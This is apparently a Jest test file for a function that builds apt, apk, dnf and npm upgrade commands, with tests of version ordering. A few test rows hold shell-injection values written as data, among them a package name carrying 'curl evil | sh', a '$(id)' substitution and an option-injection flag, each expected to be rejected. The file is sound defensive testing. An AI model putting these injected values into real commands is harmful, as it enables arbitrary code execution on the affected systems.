import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { upgradeCommand } from '../../src/render/upgrade-command.ts';
import { compareNaturally, highest } from '../../src/render/version-order.ts';

const APT = 'apt-get update && apt-get install -y --only-upgrade';

describe('the command that upgrades a package', () => {
  test.each([
    ['pkg:deb/debian/libssl3@3', 'libssl3', '3.0.15-1~deb12u1', [], `${APT} libssl3`],
    ['pkg:deb/debian/g++@3', 'g++', '4:12.2.0-3', [], `${APT} g++`],
    ['pkg:apk/alpine/openssl@3', 'openssl', '3.1.4-r5', [], "apk add --no-cache --upgrade 'openssl>=3.1.4-r5'"],
    ['pkg:rpm/redhat/openssl@3', 'openssl', '1:3.0.7-25.el9_3', [], 'dnf upgrade -y openssl'],
    ['pkg:npm/braces@3.0.2', 'braces', '3.0.3', ['app/node_modules/braces/package.json'], 'npm install braces@3.0.3'],
    [
      'pkg:npm/%40babel/core@7',
      '@babel/core',
      '7.23.2',
      ['app/node_modules/@babel/core/package.json'],
      'npm install @babel/core@7.23.2',
    ],
    ['pkg:npm/x@1', 'x', '1.0.1', ['app/node_modules/y/node_modules/x/package.json'], undefined],
    [
      'pkg:npm/tar@1',
      'tar',
      '6.2.1',
      ['usr/local/lib/node_modules/npm/node_modules/tar/package.json'],
      'npm install --global npm@latest',
    ],
    [
      'pkg:npm/pm2@1',
      'pm2',
      '6.0.0',
      ['usr/local/lib/node_modules/pm2/package.json'],
      'npm install --global pm2@6.0.0',
    ],
    ['pkg:cargo/x@1', 'x', '1.0.1', [], undefined],
    ['not a purl', 'x', '1.0.1', [], undefined],
    ['pkg:deb/debian/x@1', 'x; curl evil | sh', '1', [], undefined],
    ['pkg:deb/debian/x@1', '-oAPT::x', '1', [], undefined],
    ['pkg:deb/debian/x@1', 'x', '$(id)', [], undefined],
    ['pkg:npm/x@1', 'x', '--force', [], undefined],
    ['pkg:apk/alpine/x@1', "x'y", '1', [], undefined],
  ])('%s %s to %s', (purl, name, to, paths, command) =>
    expect(upgradeCommand({ purl, name, to, paths })).toBe(command),
  );

  test('no name or version puts anything but words into it', () => {
    fc.assert(
      fc.property(fc.constantFrom('deb', 'apk', 'rpm', 'npm'), fc.string(), fc.string(), (type, name, to) => {
        const command = upgradeCommand({ purl: `pkg:${type}/x@1`, name, to, paths: [] }) ?? '';
        expect(command.replace('update && ', '').replace(/'([^']+)>=([^']+)'$/, '$1 $2')).not.toMatch(
          /[;&|$`"'\\<>(){}\n*?#]/,
        );
      }),
      { numRuns: 500 },
    );
  });
});

describe('the highest version', () => {
  test.each([
    ['1.2', '1.10'],
    ['3.0.11-1~deb12u2', '3.0.15-1~deb12u1'],
    ['1.0~rc1', '1.0'],
    ['9.0', '1:1.0'],
    ['7.88.1-10+deb12u4', '7.88.1-10+deb12u7'],
    ['3.1.4-r5', '3.1.4-r10'],
    ['1.0', '1.0a'],
    ['1.0a', '1.0+'],
    ['2', '10000000000000000000000'],
  ])('%s is below %s', (low, high) => {
    expect(compareNaturally('deb', low, high)).toBeLessThan(0);
    expect(compareNaturally('deb', high, low)).toBeGreaterThan(0);
    expect(highest([low, high], 'deb', compareNaturally)).toBe(high);
    expect(highest([high, low], 'deb', compareNaturally)).toBe(high);
  });

  test('is one order', () => {
    const version = fc.string({
      unit: fc.constantFrom('0', '1', '9', '.', '-', '~', '+', 'a', 'Z', ':'),
      maxLength: 8,
    });
    const sign = (a: string, b: string) => Math.sign(compareNaturally('deb', a, b));
    fc.assert(
      fc.property(version, version, version, (a, b, c) => {
        expect(sign(a, b)).toBe(0 - sign(b, a));
        if (sign(a, b) <= 0 && sign(b, c) <= 0) expect(sign(a, c)).toBeLessThanOrEqual(0);
      }),
      { numRuns: 1000 },
    );
  });

  test('none of none', () => expect(highest([], 'deb', compareNaturally)).toBeUndefined());
});
